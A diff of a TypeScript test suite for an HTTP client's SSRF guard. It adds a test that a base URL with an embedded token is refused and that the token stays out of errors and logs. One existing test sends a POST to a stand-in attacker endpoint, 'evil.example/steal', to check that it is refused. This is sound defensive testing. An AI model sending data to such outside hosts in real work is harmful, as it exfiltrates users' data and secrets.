@@ -4,7 +4,7 @@ import assert from 'node:assert/strict';
 import { http, HttpResponse, type JsonBodyType } from 'msw';
 import { setupServer } from 'msw/node';
 import { HttpError } from '../../../src/sdk/index.ts';
-import { AuthConfigError, RefusedUrlError } from '../../../src/http-client/index.ts';
+import { AuthConfigError, createCircuitBreaker, RefusedUrlError } from '../../../src/http-client/index.ts';
 import { clientFor, connection, rejection, secret, vendors } from './support.ts';
 
 const SN = 'https://acme.service-now.example';
@@ -97,6 +97,18 @@ describe('SSRF guard', () => {
     const err = await rejection(client.request({ method: 'POST', path: 'https://evil.example/steal', body: { a: 1 } }));
     assert.ok(err instanceof RefusedUrlError);
     assert.match(err.message, /refused to call https:\/\/evil\.example because it is not the connection's host https:\/\/acme\.service-now\.example/);
+  });
+
+  it('refuses a baseUrl that carries credentials, without repeating them', async () => {
+    // e.g. a git-style https://oauth2:<token>@gitlab... pasted as the API base: fetch refuses such a URL
+    // with a message that quotes it whole, which would put the token in the job ledger and health.
+    const breaker = createCircuitBreaker();
+    const { client } = clientFor({ breaker, connection: connection({ baseUrl: 'https://oauth2:glpat-s3cr3t@gitlab.example' }) });
+    const err = await rejection(client.request({ method: 'GET', path: '/api/v4/projects/8/deployments' }));
+    assert.ok(err instanceof RefusedUrlError, String(err));
+    assert.match(err.message, /baseUrl has a user name or password in it/);
+    const everything = `${err.message} ${err.stack} ${JSON.stringify(breaker.snapshot())}`;
+    assert.ok(!everything.includes('glpat-s3cr3t'), everything);
   });
 
   it('refuses the same host on another port or scheme, and user-info tricks', async () => {
